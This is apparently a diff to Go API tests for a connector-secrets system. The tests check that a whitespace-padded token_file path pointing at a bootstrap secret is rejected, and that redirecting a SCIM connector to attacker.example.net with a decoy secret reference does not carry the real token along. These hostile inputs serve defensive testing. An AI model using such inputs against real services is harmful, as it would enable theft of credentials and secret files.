@@ -2,6 +2,7 @@ package api
 
 import (
 	"context"
+	"fmt"
 	"net/http"
 	"net/http/httptest"
 	"os"
@@ -57,6 +58,18 @@ func TestConnectorSecretReferences(t *testing.T) {
 			// This server was started without a secrets directory: no *_file at all.
 			problem(f.postCatalog(t, path, withSystem(`{type: scim, url: "https://attacker.example.net/scim/v2", token_file: /etc/gatehouse/bootstrap}`)),
 				"systems[corp-scim].connector.token_file", "--secrets-dir")
+		}
+		// Connectors trim white space from a reference before they read it; plan and apply judge
+		// the same path (" /etc/…" is not a relative name inside the secrets directory).
+		dir := t.TempDir()
+		withDir := newAPI(service.New(f.st, service.Options{BootstrapToken: bootstrapSecret, Logger: f.api.log, Secrets: &connector.SecretPolicy{Dir: dir}}), Options{Logger: f.api.log})
+		w := httptest.NewRecorder()
+		r := httptest.NewRequest("POST", "/api/v1/catalog/plan", strings.NewReader(withSystem(`{type: scim, url: "https://attacker.example.net/scim/v2", token_file: " /etc/gatehouse/bootstrap"}`)))
+		r.Header.Set("Authorization", "Bearer "+f.secrets["admin"])
+		r.Header.Set("Content-Type", "application/yaml")
+		withDir.ServeHTTP(w, r)
+		if w.Code != http.StatusBadRequest || !strings.Contains(w.Body.String(), "outside the server") {
+			t.Fatalf("plan of a padded path outside the secrets directory: %d %s", w.Code, w.Body)
 		}
 		must(t, f.as(t, "admin", "GET", "/api/v1/systems/corp-scim", ""), http.StatusNotFound) // nothing applied
 
@@ -159,5 +172,36 @@ func TestConnectorSecretsAtUse(t *testing.T) {
 				t.Fatalf("the attacker's server received the secret: %q", auth)
 			}
 		}
+	})
+}
+
+// TestConnectorMoveWithDecoySecret: moving a connector to a URL of one's own while adding an
+// unused secret reference (password_env on a token connector) still carries its real secret
+// along: the move needs the real one named again, or --rebind-secrets.
+func TestConnectorMoveWithDecoySecret(t *testing.T) {
+	t.Parallel()
+	forEngine(t, func(t *testing.T, f *fixture) {
+		must(t, f.postCatalog(t, "/api/v1/catalog/apply", withSystem(`{type: scim, url: "https://scim.corp.example.com/v2", token_env: CORP_SCIM_TOKEN}`)), s200)
+		moved := withSystem(`{type: scim, url: "https://attacker.example.net/scim/v2", token_env: CORP_SCIM_TOKEN, password_env: DECOY}`)
+		for _, path := range []string{"/api/v1/catalog/plan", "/api/v1/catalog/apply"} {
+			a := f.postCatalog(t, path, moved)
+			if path == "/api/v1/catalog/plan" {
+				if !strings.Contains(string(must(t, a, s200).body), `"token_env=CORP_SCIM_TOKEN"`) {
+					t.Fatalf("plan does not say the move needs a rebind: %s", a.body)
+				}
+				continue
+			}
+			e := must(t, a, http.StatusBadRequest).errorOf(t)
+			if !strings.Contains(fmt.Sprint(e), "--rebind-secrets corp-scim") {
+				t.Fatalf("apply: %+v", e)
+			}
+		}
+		var sys gatehouse.System
+		must(t, f.as(t, "admin", "GET", "/api/v1/systems/corp-scim", ""), s200).json(t, &sys)
+		if sys.Connector.Settings["url"] != "https://scim.corp.example.com/v2" {
+			t.Fatalf("the move applied: %v", sys.Connector.Settings)
+		}
+		// Naming the real secret anew is a rebind; the decoy changes nothing about that.
+		must(t, f.postCatalog(t, "/api/v1/catalog/apply", withSystem(`{type: scim, url: "https://scim2.corp.example.com/v2", token_env: CORP_SCIM_TOKEN_2, password_env: DECOY}`)), s200)
 	})
 }
